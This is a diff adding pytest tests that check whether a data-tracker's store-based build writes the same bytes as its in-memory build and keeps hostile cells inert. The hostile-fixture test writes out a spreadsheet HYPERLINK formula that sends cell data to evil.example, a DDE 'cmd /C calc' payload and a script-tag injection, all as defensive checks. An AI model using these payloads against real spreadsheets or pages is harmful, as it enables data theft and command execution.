@@ -1,0 +1,127 @@
+"""`tracker build` on the compiled store (large data) writes the bytes the in-memory build writes.
+
+Above `tracker.query.STORE_ABOVE_BYTES` of relations the build streams its CSV tables from the
+store's Parquet tables and computes its reports from the store's arrays, with no Python records
+and no networkx graph of the whole data. Here the threshold is moved so that the same data
+builds both ways, and every file written is compared byte for byte: on a generated ICIJ-layout
+set imported with `tracker import icij` (the scale path: igraph metrics, no view, no graph
+files), and on the hostile fixture (formula cells, markup, odd ids; the view and graph files).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from conftest import FIXTURES_PATH
+from test_hostile import assert_csv_inert
+
+import tracker.export as export
+import tracker.pipeline as pipeline
+import tracker.query as query
+from tracker.cli import cli
+from tracker.exc import InvalidData
+from tracker.export import store as store_csv
+from tracker.store import Store, open_store
+from tracker.synthetic import generate_icij
+
+HOSTILE = FIXTURES_PATH / "hostile"
+
+
+@pytest.fixture(scope="module")
+def icij_set(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """6,000 generated ICIJ nodes imported as a dataset folder (above the metrics' igraph and view caps)."""
+    base = tmp_path_factory.mktemp("icij")
+    generate_icij(base / "raw", 6000, seed=11)
+    res = CliRunner().invoke(cli, ["import", "icij", str(base / "raw"), "--out", str(base / "data"), "--no-store"])
+    assert res.exit_code == 0, res.output
+    return base / "data"
+
+
+def build_both(
+    data: Path, out: Path, monkeypatch: pytest.MonkeyPatch, view: bool = True
+) -> tuple[pipeline.BuildResult, pipeline.BuildResult]:
+    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 10**15)
+    memory = pipeline.run_build([data], out / "memory", view=view)
+    assert memory.store is None
+    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
+    stored = pipeline.run_build([data], out / "store", view=view)
+    assert stored.store is not None
+    return memory, stored
+
+
+def same_files(out: Path) -> list[str]:
+    names = sorted(p.name for p in (out / "memory").iterdir())
+    assert names == sorted(p.name for p in (out / "store").iterdir())
+    for name in names:
+        assert (out / "memory" / name).read_bytes() == (out / "store" / name).read_bytes(), name
+    return names
+
+
+def test_generated_set_builds_the_same_files_from_the_store(icij_set: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
+    monkeypatch.setattr(export, "BUILD_GRAPH_FILES_MAX_RELATIONS", 1000)  # the scale case: no graph files
+    monkeypatch.setattr(store_csv, "SLICE_ROWS", 2500)  # several slices per table, a partial last one
+    open_store([icij_set])  # compiled (and validated) first, so that the build below must not load
+    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
+
+    def refuse(*_: object, **__: object) -> None:
+        raise AssertionError("the build on the store read the whole data into records")
+
+    with monkeypatch.context() as m:
+        m.setattr(pipeline, "load", refuse)
+        m.setattr(Store, "whole", refuse)
+        stored = pipeline.run_build([icij_set], tmp_path / "store")
+    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 10**15)
+    memory = pipeline.run_build([icij_set], tmp_path / "memory")
+    names = same_files(tmp_path)
+    assert names == ["brokers.csv", "centrality.csv", "edges.csv", "jurisdictions.csv", "nodes.csv", "report.html", "sources.csv"]
+    assert stored.summary()[:4] == memory.summary()[:4]
+    assert [s for s in stored.skipped if not s.startswith("network.html")] == [
+        s for s in memory.skipped if not s.startswith("network.html")
+    ]
+    # The generated set: 6,000 nodes give 6,015 entities (the 15 jurisdictions added), and the
+    # edges table has one row per relation plus the header.
+    nodes = list(csv.reader(io.StringIO((tmp_path / "store" / "nodes.csv").read_text(encoding="utf-8"), newline="")))
+    assert len(nodes) == 6016 and nodes[0][:3] == ["id", "kind", "name"]
+    edges = (tmp_path / "store" / "edges.csv").read_bytes()
+    assert edges.count(b"\r\n") >= stored.graph.number_of_edges() + 1 > 9000
+
+
+def test_hostile_cells_stay_inert_and_identical_on_the_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
+    memory, stored = build_both(HOSTILE, tmp_path, monkeypatch)
+    names = same_files(tmp_path)
+    assert "graph.graphml" in names and "network.html" in names  # small: the graph files and the view too
+    for name in ("nodes.csv", "edges.csv", "sources.csv", "centrality.csv"):
+        assert_csv_inert(tmp_path / "store" / name)
+    nodes = {r["id"]: r for r in csv.DictReader(io.StringIO((tmp_path / "store" / "nodes.csv").read_text(encoding="utf-8"), newline=""))}
+    assert nodes["x-formula"]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert nodes["x-formula"]["aliases"] == "'+cmd|' /C calc'!A0;-2+3;@SUM(1+1)"
+    assert nodes["x-script"]["name"] == "<script>window.__pwned=1</script>Evil Name"  # CSV keeps text; the page escapes it
+    page = (tmp_path / "store" / "report.html").read_text(encoding="utf-8")
+    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;Evil Name" in page and "<script>window" not in page
+    assert stored.summary()[0] == memory.summary()[0]
+
+
+def test_invalid_data_stops_the_store_build_before_writing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TRACKER_STORE", str(tmp_path / "stores"))
+    bad = tmp_path / "bad"
+    bad.mkdir()
+    for p in HOSTILE.iterdir():
+        (bad / p.name).write_bytes(p.read_bytes())
+    with (bad / "relations.csv").open("a", encoding="utf-8", newline="") as fh:
+        fh.write("r-dangling,owns,x-formula,nobody-here," + "," * 16 + "\r\n")
+    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 10**15)
+    with pytest.raises(InvalidData) as in_memory:
+        pipeline.run_build([bad], tmp_path / "memory")
+    monkeypatch.setattr(query, "STORE_ABOVE_BYTES", 0)
+    with pytest.raises(InvalidData) as on_store:
+        pipeline.run_build([bad], tmp_path / "out")
+    assert str(on_store.value) == str(in_memory.value)
+    # The dangling target and the missing source: the loader's message, the first error spelt out.
+    assert str(on_store.value) == "2 errors in the data; first: relations.csv:8: sources: error [required] is empty; it is required"
+    assert not (tmp_path / "out").exists() and not (tmp_path / "memory").exists()
